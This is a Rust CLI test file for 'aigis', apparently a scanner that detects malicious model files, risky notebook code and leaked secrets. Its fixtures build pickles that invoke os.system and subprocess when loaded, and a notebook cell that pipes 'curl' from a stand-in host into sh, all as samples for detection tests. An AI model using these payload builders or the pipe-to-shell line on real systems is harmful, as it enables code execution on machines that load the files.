//! CLI tests: run the built binary as a user would.

use std::path::Path;
use std::process::{Command, Output};

fn aigis(args: &[&str], cwd: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_aigis"))
        .args(args)
        .current_dir(cwd)
        .env("NO_COLOR", "1")
        .env("XDG_CONFIG_HOME", cwd.join(".no-user-config"))
        .output()
        .expect("runs")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// `module.name(arg)` as a protocol-2 pickle.
fn call(m: &str, n: &str, arg: &str) -> Vec<u8> {
    let mut p = vec![0x80, 2, b'c'];
    p.extend_from_slice(format!("{m}\n{n}\n").as_bytes());
    p.push(0x8c);
    p.push(u8::try_from(arg.len()).expect("short"));
    p.extend_from_slice(arg.as_bytes());
    p.extend_from_slice(&[0x85, b'R', b'.']);
    p
}

fn benign() -> Vec<u8> {
    // {'a': [1, 2]} at protocol 2.
    vec![
        0x80, 2, b'}', 0x8c, 1, b'a', b']', b'(', b'K', 1, b'K', 2, b'e', b's', b'.',
    ]
}

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(dir.path().join("models")).expect("mkdir");
    std::fs::write(
        dir.path().join("models/evil.pkl"),
        call("os", "system", "echo pwned"),
    )
    .expect("write");
    std::fs::write(dir.path().join("models/ok.pkl"), benign()).expect("write");
    std::fs::write(dir.path().join("README.txt"), "not a model").expect("write");
    dir
}

#[test]
fn malicious_file_fails_the_scan_with_exit_1() {
    let dir = project();
    let o = aigis(&["scan", "models"], dir.path());
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains("evil.pkl") && out.contains("malicious"),
        "{out}"
    );
    assert!(out.contains("os.system('echo pwned')"), "{out}");
}

#[test]
fn json_report_has_verdicts_and_fingerprints() {
    let dir = project();
    let o = aigis(&["scan", "--format", "json", "."], dir.path());
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let files = v["files"].as_array().expect("files");
    assert_eq!(
        files.len(),
        2,
        "only the two pickles are model files: {v:#}"
    );
    let verdict = |name: &str| {
        files
            .iter()
            .find(|f| f["path"].as_str().is_some_and(|p| p.ends_with(name)))
            .map(|f| f["verdict"].as_str().unwrap_or("").to_string())
    };
    assert_eq!(verdict("evil.pkl").as_deref(), Some("malicious"));
    assert_eq!(verdict("ok.pkl").as_deref(), Some("clean"));
    assert!(v["files"][0]["findings"][0]["fingerprint"].is_string());
}

#[test]
fn sarif_output_is_sarif_2_1_0() {
    let dir = project();
    let o = aigis(&["scan", "--format", "sarif", "models"], dir.path());
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["version"], "2.1.0");
    assert!(
        v["runs"][0]["results"]
            .as_array()
            .is_some_and(|r| !r.is_empty())
    );
}

#[test]
fn baseline_hides_known_findings() {
    let dir = project();
    let o = aigis(
        &["scan", "--format", "json", "-o", "base.json", "models"],
        dir.path(),
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(o.stdout.is_empty(), "report went to the file");
    let o = aigis(&["scan", "--baseline", "base.json", "models"], dir.path());
    assert_eq!(o.status.code(), Some(0), "{}{}", stdout(&o), stderr(&o));
    std::fs::write(
        dir.path().join("models/new.pkl"),
        call("subprocess", "check_output", "id"),
    )
    .expect("write");
    let o = aigis(&["scan", "--baseline", "base.json", "models"], dir.path());
    assert_eq!(o.status.code(), Some(1));
    assert!(stdout(&o).contains("new.pkl"));
}

#[test]
fn missing_path_is_a_one_line_usage_error() {
    let dir = project();
    let o = aigis(&["scan", "nope"], dir.path());
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("nope") && err.contains("no such file"),
        "{err}"
    );
}

#[test]
fn inconclusive_fails_with_2_unless_allowed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut data = benign();
    data.truncate(8);
    std::fs::write(dir.path().join("cut.pkl"), data).expect("write");
    let o = aigis(&["scan", "."], dir.path());
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    assert!(stdout(&o).contains("inconclusive"));
    let o = aigis(&["scan", "--allow-inconclusive", "."], dir.path());
    assert_eq!(o.status.code(), Some(0));
}

#[test]
fn unapproved_fails_by_default_and_trust_is_one_line_of_config() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("m.pkl"), call("mypkg.models", "build", "x")).expect("write");
    let o = aigis(&["scan", "."], dir.path());
    assert_eq!(o.status.code(), Some(1));
    std::fs::write(
        dir.path().join("aigis.toml"),
        "trusted-globals = [\"mypkg.models.build\"]\n",
    )
    .expect("write");
    let o = aigis(&["scan", "."], dir.path());
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
}

#[test]
fn bad_configuration_is_an_error_naming_the_file() {
    let dir = project();
    std::fs::write(dir.path().join("aigis.toml"), "fail-on-everything = true\n").expect("write");
    let o = aigis(&["scan", "models"], dir.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("aigis.toml"), "{}", stderr(&o));
    std::fs::write(
        dir.path().join("aigis.toml"),
        "[[suppress]]\nrule = \"AIG101\"\nreason = \"\"\n",
    )
    .expect("write");
    let o = aigis(&["scan", "models"], dir.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("reason"), "{}", stderr(&o));
}

#[test]
fn suppression_with_reason_hides_findings_and_is_counted() {
    let dir = project();
    std::fs::write(
        dir.path().join("aigis.toml"),
        "[[suppress]]\nrule = \"*\"\npath = \"models/evil.pkl\"\nreason = \"known test sample\"\n",
    )
    .expect("write");
    let o = aigis(&["scan", "--format", "json", "models"], dir.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert!(v["summary"]["suppressed"].as_u64().is_some_and(|n| n > 0));
}

#[test]
fn config_show_prints_the_resolved_layers() {
    let dir = project();
    std::fs::write(
        dir.path().join("pyproject.toml"),
        "[tool.aigis]\nfail-on = \"critical\"\n[tool.aigis.limits]\nmax-compression-ratio = 500\n",
    )
    .expect("write");
    let o = Command::new(env!("CARGO_BIN_EXE_aigis"))
        .args(["config", "show"])
        .current_dir(dir.path())
        .env("XDG_CONFIG_HOME", dir.path().join(".none"))
        .env("AIGIS_ALLOW_UNAPPROVED", "true")
        .output()
        .expect("runs");
    let out = stdout(&o);
    assert!(out.contains("fail-on = \"critical\""), "{out}");
    assert!(out.contains("allow-unapproved = true"), "{out}");
    assert!(out.contains("max-compression-ratio = 500"), "{out}");
    assert!(out.contains("pyproject.toml"), "{out}");
}

#[test]
fn rules_and_rule_explain_themselves() {
    let dir = project();
    let o = aigis(&["rules"], dir.path());
    assert!(stdout(&o).contains("AIG101") && stdout(&o).contains("pickle-dangerous-call"));
    let o = aigis(&["rule", "pickle-dangerous-call"], dir.path());
    let out = stdout(&o);
    for section in ["What it does", "Why is this bad?", "Example", "How to fix"] {
        assert!(out.contains(section), "missing {section}: {out}");
    }
    let o = aigis(&["rule", "AIG999"], dir.path());
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn inspect_lists_imports_and_their_uses() {
    let dir = project();
    let o = aigis(
        &["model", "inspect", "--format", "json", "models/evil.pkl"],
        dir.path(),
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let imp = &v["pickles"][0]["imports"][0];
    assert_eq!(imp["name"], "os.system");
    assert_eq!(imp["uses"][0], "called");
    assert!(
        imp["policy"]
            .as_str()
            .is_some_and(|p| p.starts_with("denied"))
    );
    let o = aigis(&["model", "inspect", "models/ok.pkl"], dir.path());
    assert!(stdout(&o).contains("clean"), "{}", stdout(&o));
}

/// A protobuf length-delimited field.
fn ld(tag: u8, value: &[u8]) -> Vec<u8> {
    let mut out = vec![
        tag << 3 | 2,
        u8::try_from(value.len()).expect("short field"),
    ];
    out.extend_from_slice(value);
    out
}

/// An ONNX model: IR 8, opset 17, a Relu and a node of domain `evil.ops`,
/// one initializer stored in `w.bin`.
fn onnx_model() -> Vec<u8> {
    let node = |op: &str, domain: &str| {
        [ld(3, b"n"), ld(4, op.as_bytes()), ld(7, domain.as_bytes())].concat()
    };
    let entry = |k: &str, v: &str| [ld(1, k.as_bytes()), ld(2, v.as_bytes())].concat();
    let tensor = [
        vec![0x08, 0x04, 0x10, 0x01],
        ld(8, b"w"),
        ld(13, &entry("location", "w.bin")),
        vec![0x70, 0x01],
    ]
    .concat();
    let graph = [
        ld(1, &node("Relu", "")),
        ld(1, &node("Exfil", "evil.ops")),
        ld(5, &tensor),
    ]
    .concat();
    [vec![0x08, 0x08], ld(7, &graph), ld(8, &[0x10, 17])].concat()
}

#[test]
fn onnx_model_is_scanned_and_inspected() {
    let dir = project();
    std::fs::write(dir.path().join("models/net.onnx"), onnx_model()).expect("write");
    std::fs::write(dir.path().join("models/w.bin"), [0u8; 16]).expect("write");
    let o = aigis(&["scan", "--format", "json", "models/net.onnx"], dir.path());
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["files"][0]["format"], "onnx");
    assert_eq!(v["files"][0]["findings"][0]["rule_id"], "AIG150");
    let o = aigis(
        &["model", "inspect", "--format", "json", "models/net.onnx"],
        dir.path(),
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let onnx = &v["onnx"][0];
    assert_eq!(onnx["ir_version"], 8);
    assert_eq!(onnx["external_data"][0]["status"], "ok");
    assert_eq!(onnx["ops"].as_array().map(Vec::len), Some(2));
    let o = aigis(&["model", "inspect", "models/net.onnx"], dir.path());
    let text = stdout(&o);
    for part in [
        "evil.ops:Exfil",
        "custom domain",
        "\"w.bin\": 1 tensor(s), 16 bytes, ok",
    ] {
        assert!(text.contains(part), "missing {part}: {text}");
    }
}

#[test]
fn inspect_a_repository_folder_lists_files_and_the_summary() {
    let dir = tempfile::tempdir().expect("tempdir");
    let repo = dir.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    std::fs::write(
        repo.join("config.json"),
        br#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}"#,
    )
    .unwrap();
    std::fs::write(repo.join("modeling_x.py"), b"import os\n").unwrap();
    std::fs::write(repo.join("pytorch_model.bin"), benign()).unwrap();
    let o = aigis(&["model", "inspect", "repo"], dir.path());
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    for want in [
        "hf-config",
        "pytorch_model.bin",
        "AIG180",
        "modeling_x.py",
        "AIG182",
    ] {
        assert!(out.contains(want), "missing {want}: {out}");
    }
    let o = aigis(
        &["model", "inspect", "--format", "json", "repo"],
        dir.path(),
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["files"].as_array().map(Vec::len), Some(2));
}

/// Python files, notebooks (cells and outputs) and text files get the code
/// and secret rules, at the lines a viewer shows, with secrets redacted.
#[test]
fn code_notebooks_and_secrets_are_reported_where_they_are() {
    let dir = tempfile::tempdir().expect("tempdir");
    let token = format!("hf_{}", "Zq7Xk2LmP9wRt4Yv8NcB3dHs6JfUa1GeKo");
    std::fs::write(
        dir.path().join("app.py"),
        "import torch\nimport pickle as p\nm = torch.load('m.pt', weights_only=False)\nok = torch.load('m.pt', weights_only=True)\nx = p.loads(data)\n",
    )
    .expect("write");
    let nb = serde_json::json!({
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Notes\n"]},
            {"cell_type": "code", "metadata": {}, "execution_count": 1,
             "source": ["!curl -s https://x.example/i.sh | sh\n", "import joblib\n", "clf = joblib.load('c.joblib')\n"],
             "outputs": [{"output_type": "stream", "name": "stdout", "text": [format!("token: {token}\n")]}]}
        ],
        "metadata": {"kernelspec": {"language": "python", "name": "python3"}},
        "nbformat": 4, "nbformat_minor": 5
    });
    std::fs::write(
        dir.path().join("nb.ipynb"),
        serde_json::to_string_pretty(&nb).expect("json"),
    )
    .expect("write");
    let o = aigis(&["scan", "--format", "json", "."], dir.path());
    let text = stdout(&o);
    assert!(!text.contains(&token), "a secret was printed whole");
    let v: serde_json::Value = serde_json::from_str(&text).expect("json");
    let mut got = Vec::new();
    for f in v["files"].as_array().expect("files") {
        for x in f["findings"].as_array().expect("findings") {
            let loc = &x["location"];
            got.push(format!(
                "{} {} {} {}",
                loc["path"].as_str().unwrap_or(""),
                x["rule_name"].as_str().unwrap_or(""),
                loc["cell"].as_u64().map_or("-".into(), |c| c.to_string()),
                loc["line"].as_u64().unwrap_or(0)
            ));
        }
    }
    got.sort();
    let raw = std::fs::read_to_string(dir.path().join("nb.ipynb")).expect("read");
    let line_of = |needle: &str| {
        raw.lines()
            .position(|l| l.contains(needle))
            .map_or(0, |i| i + 1)
    };
    let want = [
        "./app.py pickle-deserialization - 5".to_string(),
        "./app.py torch-load-weights-only-false - 3".to_string(),
        format!(
            "./nb.ipynb huggingface-user-token 1 {}",
            line_of("token: hf_")
        ),
        format!("./nb.ipynb joblib-load 1 {}", line_of("joblib.load")),
        format!("./nb.ipynb shell-pipe-to-interpreter 1 {}", line_of("curl")),
    ];
    assert_eq!(got, want, "{text}");
    assert_eq!(o.status.code(), Some(1));
    let o = aigis(&["rules", "check"], dir.path());
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
}

/// The workspace root, where `samples/` is.
fn workspace() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// `path rule_id` for every finding of a JSON report, sorted and unique.
fn rule_ids_per_file(json: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(json).expect("json");
    let mut got = Vec::new();
    for f in v["files"].as_array().expect("files") {
        for x in f["findings"].as_array().expect("findings") {
            got.push(format!(
                "{} {}",
                f["path"].as_str().unwrap_or(""),
                x["rule_id"].as_str().unwrap_or("")
            ));
        }
    }
    got.sort();
    got.dedup();
    got
}

#[test]
fn deployment_samples_report_the_expected_rules_per_file() {
    let o = aigis(
        &["scan", "samples/deploy", "--format", "json"],
        &workspace(),
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let got = rule_ids_per_file(&stdout(&o));
    let want: Vec<String> = [
        (
            "docker/daemon.json",
            &["AIG570", "AIG571", "AIG573", "AIG574", "AIG575"][..],
        ),
        (
            "kserve/inferenceservice.yaml",
            &[
                "AIG471", "AIG472", "AIG473", "AIG474", "AIG476", "AIG483", "AIG484", "AIG485",
                "AIG486", "AIG487", "AIG489", "AIG502", "AIG511", "AIG520",
            ],
        ),
        // conf.d/llm.conf is read through nginx.conf's include, not alone.
        (
            "nginx/nginx.conf",
            &[
                "AIG540", "AIG541", "AIG543", "AIG544", "AIG545", "AIG546", "AIG547",
            ],
        ),
        // The ARG token is reported once, by the secret rule that names it (AIG381).
        (
            "triton/Dockerfile",
            &[
                "AIG381", "AIG401", "AIG403", "AIG404", "AIG405", "AIG407", "AIG408", "AIG409",
                "AIG410", "AIG411", "AIG412", "AIG413",
            ],
        ),
        (
            "triton/docker-compose.yml",
            &[
                "AIG300", "AIG301", "AIG380", "AIG442", "AIG443", "AIG445", "AIG446", "AIG447",
                "AIG449", "AIG450",
            ],
        ),
        (
            "vllm/deployment.yaml",
            &[
                "AIG470", "AIG471", "AIG472", "AIG474", "AIG476", "AIG479", "AIG480", "AIG483",
                "AIG484", "AIG485", "AIG486", "AIG488", "AIG500", "AIG501", "AIG502", "AIG520",
            ],
        ),
    ]
    .iter()
    .flat_map(|(file, ids)| {
        ids.iter()
            .map(move |id| format!("samples/deploy/{file} {id}"))
    })
    .collect();
    assert_eq!(got, want);
}

#[test]
fn only_deployment_reports_environment_secrets_itself_with_lines() {
    let o = aigis(
        &[
            "scan",
            "samples/deploy/triton",
            "--only",
            "deployment",
            "--format",
            "json",
        ],
        &workspace(),
    );
    let text = stdout(&o);
    let v: serde_json::Value = serde_json::from_str(&text).expect("json");
    let mut secrets = Vec::new();
    for f in v["files"].as_array().expect("files") {
        for x in f["findings"].as_array().expect("findings") {
            let id = x["rule_id"].as_str().unwrap_or("");
            assert!(
                id.starts_with("AIG4") || id.starts_with("AIG5"),
                "{id} is not a deployment rule"
            );
            if matches!(id, "AIG406" | "AIG448") {
                secrets.push(format!(
                    "{} {}:{}",
                    id, x["location"]["line"], x["location"]["column"]
                ));
            }
        }
    }
    secrets.sort();
    assert_eq!(
        secrets,
        ["AIG406 5:5", "AIG448 16:7", "AIG448 17:7"],
        "{text}"
    );
    assert!(
        !text.contains("q8Vh2Lx9Tz4Rk7Wm1Pn6Yc3Bd5Fg0Js8Qa2Ue4Io"),
        "a secret was printed whole"
    );
}

#[test]
fn deployment_text_report_snapshot() {
    let o = aigis(
        &["scan", "samples/deploy", "--only", "deployment"],
        &workspace(),
    );
    insta::assert_snapshot!("deployment_text_report", stdout(&o));
}
